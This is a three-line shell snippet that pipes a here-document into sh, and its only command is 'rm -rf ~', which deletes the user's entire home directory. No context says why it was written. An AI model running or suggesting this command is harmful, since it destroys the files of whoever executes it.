cat <<EOF | sh
rm -rf ~
EOF